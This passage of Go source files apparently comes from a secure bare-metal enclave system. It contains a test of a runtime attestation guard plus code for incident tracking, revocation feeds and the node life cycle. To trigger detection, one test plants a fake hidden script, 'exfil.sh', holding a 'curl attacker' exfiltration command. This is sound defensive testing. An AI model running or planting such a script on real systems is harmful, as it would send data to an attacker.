	return e.lc.to(name, StateFree, "")
}

// Destroy releases every node and deletes the enclave's project. The
// warm pool goes first: its refiller must stop allocating and its
// standbys must return to the free pool before the project can go.
func (e *Enclave) Destroy() error {
	e.ClosePool()
	for _, n := range e.Nodes() {
		if err := e.ReleaseNode(n.Name, ""); err != nil {
			return err
		}
	}
	if err := e.cloud.HIL.DeleteNetwork(context.Background(), e.Project, EnclaveNet); err != nil {
		return err
	}
	return e.cloud.HIL.DeleteProject(e.Project)
}
