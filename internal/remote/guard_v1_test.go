package remote

import (
	"context"
	"errors"
	"net/http/httptest"
	"testing"
	"time"

	"bolted/internal/bmi"
	"bolted/internal/core"
	"bolted/internal/ima"
)

// newGuardServer builds a full-surface boltedd over an in-process
// cloud and returns the client plus the server-side manager (used only
// to plant the tenant whitelist and to play the attacker — everything
// the test *observes* goes through /v1).
func newGuardServer(t *testing.T, nodes int) (*V1Client, *core.Manager, *core.Cloud) {
	t.Helper()
	cfg := core.DefaultConfig()
	cfg.Nodes = nodes
	cloud, err := core.NewCloud(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := cloud.BMI.CreateOSImage("hardened", bmi.OSImageSpec{
		KernelID: "hardened-4.17.9",
		Kernel:   []byte("vmlinuz"),
		Initrd:   []byte("initrd"),
		Cmdline:  "root=iscsi ima_policy=tcb",
	}); err != nil {
		t.Fatal(err)
	}
	mgr := core.NewManager(cloud)
	h, err := NewHandlerWithManager(cloud, mgr)
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(h)
	t.Cleanup(srv.Close)
	return NewV1Client(srv.URL), mgr, cloud
}

// TestGuardEndToEndOverWire is the ISSUE acceptance path: with a guard
// enabled over /v1, an IMA whitelist violation on an Allocated node
// results — observable purely through /v1 — in an incident resource,
// the node journalled Allocated -> Quarantined, a rekey, and a
// replacement node reaching Allocated.
func TestGuardEndToEndOverWire(t *testing.T) {
	cli, mgr, _ := newGuardServer(t, 4)
	ctx := context.Background()

	if _, err := cli.CreateEnclave(ctx, "charlie", "charlie"); err != nil {
		t.Fatal(err)
	}
	// The runtime whitelist is tenant-authored before nodes boot; it
	// has no wire endpoint (it ships inside attested payloads), so the
	// test reaches in server-side exactly once here.
	e, err := mgr.Enclave("charlie")
	if err != nil {
		t.Fatal(err)
	}
	e.IMAWhitelist().AllowContent("/usr/bin/app", []byte("app-v1"))

	op, err := cli.Acquire(ctx, "charlie", "hardened", 3)
	if err != nil {
		t.Fatal(err)
	}
	done, err := cli.WaitOperation(ctx, op.ID)
	if err != nil {
		t.Fatal(err)
	}
	if len(done.Result.Nodes) != 3 {
		t.Fatalf("allocated %d of 3: %+v", len(done.Result.Nodes), done.Result)
	}

	g, err := cli.EnableGuard(ctx, "charlie", GuardPolicyInfo{
		Interval:       10 * time.Millisecond,
		CoalesceWindow: 5 * time.Millisecond,
		SelfHeal:       true,
		Image:          "hardened",
	})
	if err != nil {
		t.Fatal(err)
	}
	if !g.Policy.SelfHeal || g.Policy.MaxConcurrent == 0 {
		t.Fatalf("guard policy not echoed with defaults: %+v", g.Policy)
	}

	// The attacker: an unauthorized binary runs on the first member.
	victim := done.Result.Nodes[0]
	var victimNode *core.Node
	for _, n := range e.Nodes() {
		if n.Name == victim {
			victimNode = n
		}
	}
	if victimNode == nil {
		t.Fatalf("node %s not found server-side", victim)
	}
	victimNode.IMA.Measure("/tmp/.hidden/exfil.sh", []byte("#!/bin/sh\ncurl attacker"), ima.HookExec, 0)

	// 1. An incident resource appears and resolves, via /v1 alone.
	var inc *IncidentInfo
	deadline := time.Now().Add(15 * time.Second)
	for inc == nil {
		incs, err := cli.ListIncidents(ctx, "charlie")
		if err != nil {
			t.Fatal(err)
		}
		for _, candidate := range incs {
			if candidate.Node == victim && candidate.Terminal() {
				inc = candidate
			}
		}
		if time.Now().After(deadline) {
			t.Fatalf("no terminal incident for %s via /v1; have %+v", victim, incs)
		}
		time.Sleep(5 * time.Millisecond)
	}
	if inc.State != string(core.IncidentResolved) {
		t.Fatalf("incident state = %s, want resolved: %+v", inc.State, inc.Steps)
	}
	wantSteps := map[string]bool{"quarantine": false, "rekey": false, "replace": false}
	for _, s := range inc.Steps {
		if _, ok := wantSteps[s.Name]; ok {
			wantSteps[s.Name] = true
		}
	}
	for name, seen := range wantSteps {
		if !seen {
			t.Fatalf("incident missing %q step: %+v", name, inc.Steps)
		}
	}
	// WaitIncident on a terminal incident returns immediately with the
	// same state.
	waited, err := cli.WaitIncident(ctx, inc.ID)
	if err != nil || waited.State != inc.State {
		t.Fatalf("WaitIncident = %+v, %v", waited, err)
	}

	// 2. The enclave resource shows the victim quarantined and three
	// Allocated members again (the replacement healed the enclave).
	info, err := cli.GetEnclave(ctx, "charlie")
	if err != nil {
		t.Fatal(err)
	}
	if got := info.Nodes[victim]; got != string(core.StateQuarantined) {
		t.Fatalf("victim state over /v1 = %q, want %q", got, core.StateQuarantined)
	}
	allocated := 0
	for _, st := range info.Nodes {
		if st == string(core.StateAllocated) {
			allocated++
		}
	}
	if allocated != 3 {
		t.Fatalf("enclave has %d allocated members over /v1, want 3 (self-healed)", allocated)
	}
	if len(info.Incidents) != 0 {
		t.Fatalf("enclave still reports open incidents: %v", info.Incidents)
	}

	// 3. The enclave journal stream shows the full kill chain,
	// including the victim's Allocated -> Quarantined transition.
	var kinds []string
	victimJoined, victimQuarantined := false, false
	if err := cli.EnclaveEvents(ctx, "charlie", 0, false, func(ev EventInfo) error {
		kinds = append(kinds, ev.Kind)
		if ev.Node == victim && ev.Kind == string(core.EvJoined) {
			victimJoined = true
		}
		if ev.Node == victim && ev.Kind == string(core.EvQuarantined) {
			if !victimJoined {
				t.Fatalf("journal shows quarantine before allocation for %s", victim)
			}
			victimQuarantined = true
		}
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	if !victimQuarantined {
		t.Fatalf("journal over /v1 never showed %s quarantined: %v", victim, kinds)
	}
	count := func(kind core.EventKind) int {
		n := 0
		for _, k := range kinds {
			if k == string(kind) {
				n++
			}
		}
		return n
	}
	if count(core.EvRevoked) < 1 || count(core.EvRekeyed) != 1 || count(core.EvHealed) != 1 {
		t.Fatalf("journal kinds over /v1 = %v, want >=1 revoked, exactly 1 rekeyed and 1 healed", kinds)
	}

	// 4. The verifier revocation feed — the wire form of
	// Verifier.Subscribe — carries the event.
	revs, err := cli.Revocations(ctx, "charlie", 0)
	if err != nil {
		t.Fatal(err)
	}
	if len(revs) != 1 || revs[0].Node != victim {
		t.Fatalf("revocation feed over /v1 = %+v, want one event for %s", revs, victim)
	}

	// 5. Guard status reflects the handled revocation.
	g, err = cli.GetGuard(ctx, "charlie")
	if err != nil {
		t.Fatal(err)
	}
	if g.Revocations != 1 || g.Rounds == 0 || len(g.Incidents) != 1 {
		t.Fatalf("guard status over /v1 = %+v, want 1 revocation, >0 rounds, 1 incident", g)
	}

	// 6. Disable tears the guard down; status turns not-found.
	if err := cli.DisableGuard(ctx, "charlie"); err != nil {
		t.Fatal(err)
	}
	if _, err := cli.GetGuard(ctx, "charlie"); !errors.Is(err, core.ErrNotFound) {
		t.Fatalf("GetGuard after disable = %v, want ErrNotFound", err)
	}
}

// TestGuardWireErrors: the guard surface speaks the same typed error
// envelopes as the rest of /v1.
func TestGuardWireErrors(t *testing.T) {
	cli, _, _ := newGuardServer(t, 2)
	ctx := context.Background()

	if _, err := cli.EnableGuard(ctx, "ghost", GuardPolicyInfo{}); !errors.Is(err, core.ErrNotFound) {
		t.Fatalf("EnableGuard on unknown enclave = %v, want ErrNotFound", err)
	}
	if _, err := cli.CreateEnclave(ctx, "bob", "bob"); err != nil {
		t.Fatal(err)
	}
	if _, err := cli.EnableGuard(ctx, "bob", GuardPolicyInfo{}); !errors.Is(err, core.ErrConflict) {
		t.Fatalf("EnableGuard on bob profile = %v, want ErrConflict", err)
	}
	if _, err := cli.CreateEnclave(ctx, "charlie", "charlie"); err != nil {
		t.Fatal(err)
	}
	if _, err := cli.EnableGuard(ctx, "charlie", GuardPolicyInfo{SelfHeal: true}); !errors.Is(err, core.ErrInvalid) {
		t.Fatalf("EnableGuard self-heal without image = %v, want ErrInvalid", err)
	}
	if _, err := cli.GetGuard(ctx, "charlie"); !errors.Is(err, core.ErrNotFound) {
		t.Fatalf("GetGuard with no guard = %v, want ErrNotFound", err)
	}
	if err := cli.DisableGuard(ctx, "charlie"); !errors.Is(err, core.ErrNotFound) {
		t.Fatalf("DisableGuard with no guard = %v, want ErrNotFound", err)
	}
	if _, err := cli.GetIncident(ctx, "inc-9999"); !errors.Is(err, core.ErrNotFound) {
		t.Fatalf("GetIncident unknown = %v, want ErrNotFound", err)
	}
	incs, err := cli.ListIncidents(ctx, "")
	if err != nil || incs == nil || len(incs) != 0 {
		t.Fatalf("ListIncidents empty = %v, %v; want [], nil", incs, err)
	}
}

// TestIncidentStreamOverWire follows the NDJSON incident feed while a
// revocation on an unguarded enclave turns into an unhandled incident.
func TestIncidentStreamOverWire(t *testing.T) {
	cli, mgr, _ := newGuardServer(t, 2)
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()

	if _, err := cli.CreateEnclave(ctx, "charlie", "charlie"); err != nil {
		t.Fatal(err)
	}
	e, err := mgr.Enclave("charlie")
	if err != nil {
		t.Fatal(err)
	}
	e.IMAWhitelist().AllowContent("/usr/bin/app", []byte("app-v1"))
	op, err := cli.Acquire(ctx, "charlie", "hardened", 1)
	if err != nil {
		t.Fatal(err)
	}
	done, err := cli.WaitOperation(ctx, op.ID)
	if err != nil || len(done.Result.Nodes) != 1 {
		t.Fatalf("acquire: %+v, %v", done, err)
	}
	node := done.Result.Nodes[0]

	got := make(chan IncidentInfo, 16)
	streamErr := make(chan error, 1)
	go func() {
		streamErr <- cli.StreamIncidents(ctx, 0, func(inc IncidentInfo) error {
			got <- inc
			return nil
		})
	}()
	// Give the stream a beat to connect, then trigger the revocation.
	time.Sleep(50 * time.Millisecond)
	e.Verifier().Revoke(node, "tenant-side detection")

	deadline := time.After(10 * time.Second)
	for {
		select {
		case inc := <-got:
			if inc.Node == node && inc.State == string(core.IncidentUnhandled) {
				cancel()
				<-streamErr // stream ends once ctx is cancelled
				return
			}
		case err := <-streamErr:
			t.Fatalf("stream ended early: %v", err)
		case <-deadline:
			t.Fatal("never saw the unhandled incident on the stream")
		}
	}
}
