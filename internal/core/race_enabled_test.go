//go:build race

package core

// raceEnabled reports that the race detector is instrumenting this
// build; wall-clock assertions are meaningless under its overhead.
const raceEnabled = true
