package core

import (
	"context"
	"encoding/json"
	"fmt"
	"sort"
	"sync"
	"time"

	"bolted/internal/keylime"
	"bolted/internal/store"
)

// This file is the incident half of the runtime attestation guard
// (§7.4): a revocation detected by the Keylime verifier becomes an
// Incident — a first-class control-plane resource recording the
// automated response (quarantine, export teardown, enclave rekey,
// replacement) step by step, so a tenant on the other side of the /v1
// API can observe and audit the whole kill chain. The guard engine
// itself lives in internal/guard; the Manager only hosts the incident
// and guard registries and fans the verifier revocation feeds out to
// whoever listens (the wire equivalent of Verifier.Subscribe, which a
// remote boltedd would otherwise swallow).

// IncidentState is an incident's position in its response life cycle.
type IncidentState string

// Incident states. Resolved, Degraded and Unhandled are terminal.
const (
	// IncidentDetected: revocation observed, response not yet begun.
	IncidentDetected IncidentState = "detected"
	// IncidentResponding: quarantine / rekey / replacement in progress.
	IncidentResponding IncidentState = "responding"
	// IncidentResolved: response complete; the enclave is back at its
	// pre-incident size (or no replacement was requested).
	IncidentResolved IncidentState = "resolved"
	// IncidentDegraded: the node was quarantined and the enclave
	// rekeyed, but self-healing failed — the enclave runs below its
	// target size until the tenant intervenes.
	IncidentDegraded IncidentState = "degraded"
	// IncidentUnhandled: a revocation arrived on an enclave with no
	// guard enabled; recorded for the tenant, no automated response.
	IncidentUnhandled IncidentState = "unhandled"
)

// Terminal reports whether the state is final.
func (s IncidentState) Terminal() bool {
	return s == IncidentResolved || s == IncidentDegraded || s == IncidentUnhandled
}

// IncidentStep is one completed action of an incident response.
type IncidentStep struct {
	At     time.Time `json:"at"`
	Name   string    `json:"name"`
	Detail string    `json:"detail,omitempty"`
	Error  string    `json:"error,omitempty"`
}

// Incident is one revocation and the automated response to it, tracked
// by a Manager. All methods are safe for concurrent use.
type Incident struct {
	ID      string
	Enclave string
	Node    string
	Reason  string
	Opened  time.Time

	seq      int // manager-assigned creation order
	onUpdate func(*Incident)
	done     chan struct{}

	mu     sync.Mutex
	state  IncidentState
	steps  []IncidentStep
	closed time.Time
}

// IncidentStatus is a consistent point-in-time view of an Incident.
type IncidentStatus struct {
	ID      string         `json:"id"`
	Enclave string         `json:"enclave"`
	Node    string         `json:"node"`
	Reason  string         `json:"reason"`
	State   IncidentState  `json:"state"`
	Opened  time.Time      `json:"opened"`
	Closed  time.Time      `json:"closed,omitzero"`
	Steps   []IncidentStep `json:"steps,omitempty"`
}

// State returns the incident's current state.
func (i *Incident) State() IncidentState {
	i.mu.Lock()
	defer i.mu.Unlock()
	return i.state
}

// Status snapshots the incident atomically.
func (i *Incident) Status() IncidentStatus {
	i.mu.Lock()
	defer i.mu.Unlock()
	return IncidentStatus{
		ID:      i.ID,
		Enclave: i.Enclave,
		Node:    i.Node,
		Reason:  i.Reason,
		State:   i.state,
		Opened:  i.Opened,
		Closed:  i.closed,
		Steps:   append([]IncidentStep(nil), i.steps...),
	}
}

// Step records a completed response action.
func (i *Incident) Step(name, detail string) {
	i.mu.Lock()
	if i.state == IncidentDetected {
		i.state = IncidentResponding
	}
	i.steps = append(i.steps, IncidentStep{At: time.Now(), Name: name, Detail: detail})
	i.mu.Unlock()
	i.notifyUpdate()
}

// StepError records a response action that failed.
func (i *Incident) StepError(name string, err error) {
	i.mu.Lock()
	if i.state == IncidentDetected {
		i.state = IncidentResponding
	}
	i.steps = append(i.steps, IncidentStep{At: time.Now(), Name: name, Error: err.Error()})
	i.mu.Unlock()
	i.notifyUpdate()
}

// Close moves the incident to a terminal state (recording a final step
// when detail is non-empty). Closing an already-terminal incident is a
// no-op.
func (i *Incident) Close(state IncidentState, detail string) {
	if !state.Terminal() {
		panic("core: Incident.Close needs a terminal state, got " + string(state))
	}
	i.mu.Lock()
	if i.state.Terminal() {
		i.mu.Unlock()
		return
	}
	i.state = state
	i.closed = time.Now()
	if detail != "" {
		i.steps = append(i.steps, IncidentStep{At: i.closed, Name: string(state), Detail: detail})
	}
	i.mu.Unlock()
	close(i.done)
	i.notifyUpdate()
}

// Done returns a channel closed when the incident reaches a terminal
// state.
func (i *Incident) Done() <-chan struct{} { return i.done }

// Wait blocks until the incident is terminal (returning its final
// status) or ctx ends.
func (i *Incident) Wait(ctx context.Context) (IncidentStatus, error) {
	select {
	case <-i.done:
		return i.Status(), nil
	case <-ctx.Done():
		return IncidentStatus{}, ctx.Err()
	}
}

func (i *Incident) notifyUpdate() {
	if i.onUpdate != nil {
		i.onUpdate(i)
	}
}

// GuardController is the Manager's minimal view of a runtime
// attestation guard (implemented by internal/guard): the manager routes
// the enclave's verifier revocation events to it and stops it when the
// guard is detached or its enclave deleted. Everything richer — policy,
// status — lives on the concrete type.
type GuardController interface {
	// HandleRevocation is invoked, synchronously with the verifier's
	// fan-out, for every revocation on the guarded enclave. It must
	// return quickly (queue, don't respond inline).
	HandleRevocation(ev keylime.RevocationEvent)
	// Stop halts the guard's monitoring and response loops and waits
	// for any in-flight response to finish.
	Stop()
}

// maxIncidentFeed bounds the replayable incident-update feed; older
// updates fall off the front (the incidents themselves are retained
// separately).
const maxIncidentFeed = 4096

// MaxRetainedIncidents bounds how many incidents the manager keeps:
// beyond it, the oldest terminal incidents are forgotten. A long-lived
// boltedd guarding a flapping enclave must not grow memory with every
// revocation it ever answered (same discipline as MaxRetainedOps).
const MaxRetainedIncidents = 256

// maxRevFeed bounds each enclave's replayable revocation feed; older
// events fall off the front and the replay base advances.
const maxRevFeed = 1024

// revFeed is one enclave's replayable revocation-event feed. base is
// the absolute index of events[0], so cursors stay stable across
// pruning.
type revFeed struct {
	events []keylime.RevocationEvent
	base   int
	notify chan struct{}
}

// AttachGuard registers a guard for an enclave; subsequent revocations
// on the enclave's verifier are routed to it instead of being recorded
// as unhandled incidents. One guard per enclave. A guard that reports
// its policy (PolicyReporter) has it committed to the store, so Recover
// can hand it back for re-enabling after a restart.
func (m *Manager) AttachGuard(enclave string, g GuardController) error {
	m.mu.Lock()
	defer m.mu.Unlock()
	if _, ok := m.enclaves[enclave]; !ok || m.deleting[enclave] {
		return fmt.Errorf("%w: enclave %q", ErrNotFound, enclave)
	}
	if _, ok := m.guards[enclave]; ok {
		return fmt.Errorf("%w: enclave %q already has a guard", ErrExists, enclave)
	}
	var policy json.RawMessage
	if pr, ok := g.(PolicyReporter); ok {
		raw, err := pr.PolicyJSON()
		if err != nil {
			return fmt.Errorf("%w: guard policy: %v", ErrInvalid, err)
		}
		policy = raw
	}
	if err := m.appendRecord(store.KindGuardEnabled, guardRecord{Enclave: enclave, Policy: policy}); err != nil {
		return fmt.Errorf("core: persist guard policy: %w", err)
	}
	m.guards[enclave] = g
	if policy != nil {
		m.guardPolicies[enclave] = policy
	}
	return nil
}

// NoteGuardPolicy commits an attached guard's updated policy to the
// durable store (guard.SetPolicy calls it), so a restart re-enables the
// guard under the policy the tenant last set, not the one it attached
// with.
func (m *Manager) NoteGuardPolicy(enclave string, policy json.RawMessage) error {
	m.mu.Lock()
	defer m.mu.Unlock()
	if _, ok := m.guards[enclave]; !ok {
		return fmt.Errorf("%w: enclave %q has no guard", ErrNotFound, enclave)
	}
	if err := m.appendRecord(store.KindGuardEnabled, guardRecord{Enclave: enclave, Policy: policy}); err != nil {
		return fmt.Errorf("core: persist guard policy: %w", err)
	}
	m.guardPolicies[enclave] = append(json.RawMessage(nil), policy...)
	return nil
}

// Guard returns the guard attached to an enclave, if any.
func (m *Manager) Guard(enclave string) (GuardController, bool) {
	m.mu.Lock()
	defer m.mu.Unlock()
	g, ok := m.guards[enclave]
	return g, ok
}

// DetachGuard unregisters and stops an enclave's guard. It reports
// whether a guard was attached.
func (m *Manager) DetachGuard(enclave string) bool {
	m.mu.Lock()
	g, ok := m.guards[enclave]
	delete(m.guards, enclave)
	delete(m.guardPolicies, enclave)
	m.mu.Unlock()
	if ok {
		g.Stop()
		// Best-effort: a lost detach record means a restart re-enables a
		// guard the tenant turned off — safe (over-guarding), and the
		// tenant's detach is replayable.
		_ = m.appendRecord(store.KindGuardDetached, enclaveNameRecord{Enclave: enclave})
	}
	return ok
}

// OpenIncident records a new incident against an enclave and returns
// it. The guard opens one per revocation; revocations on unguarded
// enclaves are recorded as unhandled incidents automatically.
func (m *Manager) OpenIncident(enclave, node, reason string) *Incident {
	m.mu.Lock()
	m.incSeq++
	inc := &Incident{
		ID:       fmt.Sprintf("inc-%04d", m.incSeq),
		Enclave:  enclave,
		Node:     node,
		Reason:   reason,
		Opened:   time.Now(),
		seq:      m.incSeq,
		onUpdate: m.noteIncidentUpdate,
		done:     make(chan struct{}),
		state:    IncidentDetected,
	}
	m.incidents[inc.ID] = inc
	m.incOrder = append(m.incOrder, inc)
	m.pruneIncidentsLocked()
	m.mu.Unlock()
	m.noteIncidentUpdate(inc)
	return inc
}

// pruneIncidentsLocked forgets the oldest terminal incidents beyond
// the retention bound. Callers hold m.mu.
func (m *Manager) pruneIncidentsLocked() {
	keep := m.incOrder[:0]
	over := len(m.incOrder) - MaxRetainedIncidents
	for _, inc := range m.incOrder {
		if over > 0 && inc.State().Terminal() {
			delete(m.incidents, inc.ID)
			over--
			continue
		}
		keep = append(keep, inc)
	}
	m.incOrder = keep
}

// Incident returns a tracked incident by ID.
func (m *Manager) Incident(id string) (*Incident, error) {
	m.mu.Lock()
	defer m.mu.Unlock()
	inc, ok := m.incidents[id]
	if !ok {
		return nil, fmt.Errorf("%w: incident %q", ErrNotFound, id)
	}
	return inc, nil
}

// ListIncidents returns every tracked incident, oldest first. With a
// non-empty enclave it returns only that enclave's incidents.
func (m *Manager) ListIncidents(enclave string) []*Incident {
	m.mu.Lock()
	defer m.mu.Unlock()
	out := make([]*Incident, 0, len(m.incidents))
	for _, inc := range m.incidents {
		if enclave == "" || inc.Enclave == enclave {
			out = append(out, inc)
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i].seq < out[j].seq })
	return out
}

// OpenIncidentIDs returns the IDs of an enclave's non-terminal
// incidents, oldest first — what the /v1 enclave resource surfaces so
// tooling can branch on "incident open".
func (m *Manager) OpenIncidentIDs(enclave string) []string {
	var out []string
	for _, inc := range m.ListIncidents(enclave) {
		if !inc.State().Terminal() {
			out = append(out, inc.ID)
		}
	}
	return out
}

// noteIncidentUpdate appends a snapshot to the replayable incident
// feed and wakes streamers. It is the Incident.onUpdate callback.
func (m *Manager) noteIncidentUpdate(inc *Incident) {
	st := inc.Status()
	m.cloud.metrics.observeIncident(st)
	// Commit the update before serving it on the replayable feed, so a
	// cursor handed to a streamer always points at surviving history.
	// Persist failures do not block the feed: an incident update is a
	// security signal, and availability wins over durability for it.
	_ = m.appendRecord(store.KindIncidentUpdate, st)
	m.mu.Lock()
	m.incFeed = append(m.incFeed, st)
	if over := len(m.incFeed) - maxIncidentFeed; over > 0 {
		m.incFeed = append([]IncidentStatus(nil), m.incFeed[over:]...)
		m.incFeedBase += over
	}
	close(m.incNotify)
	m.incNotify = make(chan struct{})
	m.mu.Unlock()
}

// IncidentUpdatesSince returns incident-status updates past the
// absolute cursor, a channel that closes on the next update, and the
// cursor to resume from. A streamer loops: emit, advance, wait.
func (m *Manager) IncidentUpdatesSince(cursor int) ([]IncidentStatus, <-chan struct{}, int) {
	m.mu.Lock()
	defer m.mu.Unlock()
	if cursor < m.incFeedBase {
		cursor = m.incFeedBase
	}
	var out []IncidentStatus
	if idx := cursor - m.incFeedBase; idx < len(m.incFeed) {
		out = append([]IncidentStatus(nil), m.incFeed[idx:]...)
	}
	return out, m.incNotify, cursor + len(out)
}

// noteRevocation is the manager's subscription to an enclave verifier's
// revocation fan-out: append to the enclave's replayable feed, then
// route to the enclave's guard — or record an unhandled incident when
// no guard is enabled, so a remote tenant still finds out.
func (m *Manager) noteRevocation(enclave string, ev keylime.RevocationEvent) {
	// Same durability stance as incident updates: commit first so the
	// replayable feed survives a crash, but never let a full disk stop a
	// revocation from reaching the guard.
	_ = m.appendRecord(store.KindRevocation, revocationRecord{Enclave: enclave, UUID: ev.UUID, Reason: ev.Reason, At: ev.At})
	m.mu.Lock()
	f := m.revFeeds[enclave]
	if f == nil {
		f = &revFeed{notify: make(chan struct{})}
		m.revFeeds[enclave] = f
	}
	f.events = append(f.events, ev)
	if over := len(f.events) - maxRevFeed; over > 0 {
		f.events = append([]keylime.RevocationEvent(nil), f.events[over:]...)
		f.base += over
	}
	close(f.notify)
	f.notify = make(chan struct{})
	g := m.guards[enclave]
	m.mu.Unlock()

	if g != nil {
		g.HandleRevocation(ev)
		return
	}
	inc := m.OpenIncident(enclave, ev.UUID, ev.Reason)
	inc.Close(IncidentUnhandled, "no guard enabled; no automated response")
}

// RevocationsSince returns an enclave's revocation events past the
// absolute cursor, a channel that closes when a new one arrives, and
// the cursor to resume from — the wire equivalent of
// Verifier.Subscribe for tenants on the far side of a boltedd. A
// cursor older than the pruned feed resumes at the feed's base.
func (m *Manager) RevocationsSince(enclave string, cursor int) ([]keylime.RevocationEvent, <-chan struct{}, int, error) {
	m.mu.Lock()
	defer m.mu.Unlock()
	if _, ok := m.enclaves[enclave]; !ok || m.deleting[enclave] {
		return nil, nil, 0, fmt.Errorf("%w: enclave %q", ErrNotFound, enclave)
	}
	f := m.revFeeds[enclave]
	if f == nil {
		f = &revFeed{notify: make(chan struct{})}
		m.revFeeds[enclave] = f
	}
	if cursor < f.base {
		cursor = f.base
	}
	var out []keylime.RevocationEvent
	if idx := cursor - f.base; idx < len(f.events) {
		out = append([]keylime.RevocationEvent(nil), f.events[idx:]...)
	}
	return out, f.notify, cursor + len(out), nil
}
