package core

import (
	"fmt"
	"sync"
)

// This file makes the paper's Figure-1 node life cycle explicit. The
// original prototype encoded the free → airlock → attest →
// allocated/rejected progression implicitly in one long provisioning
// function; the state machine below names each state, validates every
// transition, and journals it, so the concurrent provisioner can keep
// many nodes in flight while a failed node is quarantined without
// ambiguity about where its siblings stand.

// NodeState is a node's position in the Figure-1 life cycle.
type NodeState string

// Life-cycle states, in the order a healthy node traverses them.
const (
	// StateFree: in the provider's free pool, not ours.
	StateFree NodeState = "free"
	// StateAirlocked: reserved and wired into its private airlock
	// network (shared VLANs only with the attestation and provisioning
	// services, never with other nodes).
	StateAirlocked NodeState = "airlocked"
	// StateBooting: powered on, firmware measured itself, the Keylime
	// agent is registering.
	StateBooting NodeState = "booting"
	// StateAttesting: quote in flight; the verifier decides.
	StateAttesting NodeState = "attesting"
	// StateWarm: pre-booted into the attested runtime and parked as a
	// standby in the enclave's warm pool; an acquisition takes it
	// through the kexec fast path (re-quote, network move, kexec)
	// without paying the PXE/boot/attest chain again.
	StateWarm NodeState = "warm"
	// StateProvisioned: out of the airlock, remote volume exported and
	// the disk/network encryption stack assembled.
	StateProvisioned NodeState = "provisioned"
	// StateAllocated: full enclave member, tenant kernel running.
	StateAllocated NodeState = "allocated"
	// StateRejected: failed a phase; parked in the provider's
	// quarantine project, off every network.
	StateRejected NodeState = "rejected"
	// StateQuarantined: was a full member, then failed runtime
	// attestation; cryptographically banned, torn off every network and
	// parked in the provider's quarantine project for forensics.
	StateQuarantined NodeState = "quarantined"
)

// lifecycleTransitions is the set of legal state changes. Booting may
// skip Attesting (profiles without attestation), and every in-flight
// state may fall to Rejected (phase failure) or back to Free (batch
// aborted by the caller's context).
var lifecycleTransitions = map[NodeState][]NodeState{
	StateFree:        {StateAirlocked},
	StateAirlocked:   {StateBooting, StateRejected, StateFree},
	StateBooting:     {StateAttesting, StateProvisioned, StateWarm, StateRejected, StateFree},
	StateAttesting:   {StateProvisioned, StateWarm, StateRejected, StateFree},
	StateWarm:        {StateProvisioned, StateRejected, StateQuarantined, StateFree},
	StateProvisioned: {StateAllocated, StateRejected, StateFree},
	StateAllocated:   {StateFree, StateQuarantined},
	StateRejected:    {StateFree}, // operator repaired the node
	StateQuarantined: {StateFree}, // operator scrubbed and repaired the node
}

// stateEvent maps a state entry to its journal event kind.
var stateEvent = map[NodeState]EventKind{
	StateAirlocked:   EvAirlocked,
	StateBooting:     EvBooting,
	StateAttesting:   EvAttesting,
	StateWarm:        EvWarm,
	StateProvisioned: EvProvisioned,
	StateAllocated:   EvJoined,
	StateRejected:    EvRejected,
	StateQuarantined: EvQuarantined,
	StateFree:        EvReleased,
}

// lifecycle tracks every node the enclave has touched and journals each
// transition. Safe for concurrent use: the provisioner drives many
// nodes through it at once.
type lifecycle struct {
	journal *Journal

	mu     sync.Mutex
	states map[string]NodeState
}

func newLifecycle(j *Journal) *lifecycle {
	return &lifecycle{journal: j, states: make(map[string]NodeState)}
}

// state returns a node's current state (StateFree if never seen).
func (l *lifecycle) state(node string) NodeState {
	l.mu.Lock()
	defer l.mu.Unlock()
	if s, ok := l.states[node]; ok {
		return s
	}
	return StateFree
}

// to moves a node to the next state, journalling the transition. An
// illegal transition is a programming error in the provisioner and is
// reported, not executed.
func (l *lifecycle) to(node string, next NodeState, detail string) error {
	l.mu.Lock()
	cur, ok := l.states[node]
	if !ok {
		cur = StateFree
	}
	legal := false
	for _, s := range lifecycleTransitions[cur] {
		if s == next {
			legal = true
			break
		}
	}
	if !legal {
		l.mu.Unlock()
		return fmt.Errorf("core: illegal lifecycle transition %s -> %s for node %s", cur, next, node)
	}
	if next == StateFree {
		delete(l.states, node)
	} else {
		l.states[node] = next
	}
	l.mu.Unlock()
	l.journal.record(stateEvent[next], node, detail)
	if err := l.journal.Err(); err != nil {
		// The transition could not be committed to the durable log. Fail
		// closed: the caller treats the phase as failed, so no node is ever
		// acknowledged in a state the log does not record.
		return err
	}
	return nil
}

// restore reinstates a node's recorded state without validation or
// journalling. Recovery uses it only for states whose trust does not need a
// fresh quote (Rejected, Quarantined — distrust survives a restart; trust
// does not).
func (l *lifecycle) restore(node string, s NodeState) {
	l.mu.Lock()
	defer l.mu.Unlock()
	if s == StateFree {
		delete(l.states, node)
		return
	}
	l.states[node] = s
}

// snapshot returns a copy of every tracked node's state.
func (l *lifecycle) snapshot() map[string]NodeState {
	l.mu.Lock()
	defer l.mu.Unlock()
	out := make(map[string]NodeState, len(l.states))
	for n, s := range l.states {
		out[n] = s
	}
	return out
}

// NodeState reports where a node stands in the enclave's life cycle.
// Nodes the enclave never touched (or released) are StateFree.
func (e *Enclave) NodeState(name string) NodeState { return e.lc.state(name) }

// NodeStates returns the state of every node the enclave is tracking.
func (e *Enclave) NodeStates() map[string]NodeState { return e.lc.snapshot() }
