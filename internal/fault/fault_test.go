package fault

import (
	"context"
	"errors"
	"fmt"
	"sync"
	"testing"
	"time"
)

// callOutcomes drives the same fixed call pattern through an injector
// and records, per (op, key, attempt), whether the call faulted. The
// pattern is 16 keys x 4 attempts each against one backend.
func callOutcomes(inj *Injector, parallel bool) map[string]bool {
	out := make(map[string]bool)
	var mu sync.Mutex
	var wg sync.WaitGroup
	for k := 0; k < 16; k++ {
		key := fmt.Sprintf("node-%02d", k)
		run := func() {
			defer wg.Done()
			for a := 0; a < 4; a++ {
				err := inj.do(context.Background(), "hil", "AllocateNode", key, func() error { return nil })
				mu.Lock()
				out[fmt.Sprintf("%s/%d", key, a)] = err != nil
				mu.Unlock()
			}
		}
		wg.Add(1)
		if parallel {
			go run()
		} else {
			run()
		}
	}
	wg.Wait()
	return out
}

// TestDeterministicAcrossInterleavings is the injector's core contract:
// which call faults depends only on (seed, backend, op, key, attempt#),
// never on goroutine scheduling. A serial replay and a fully parallel
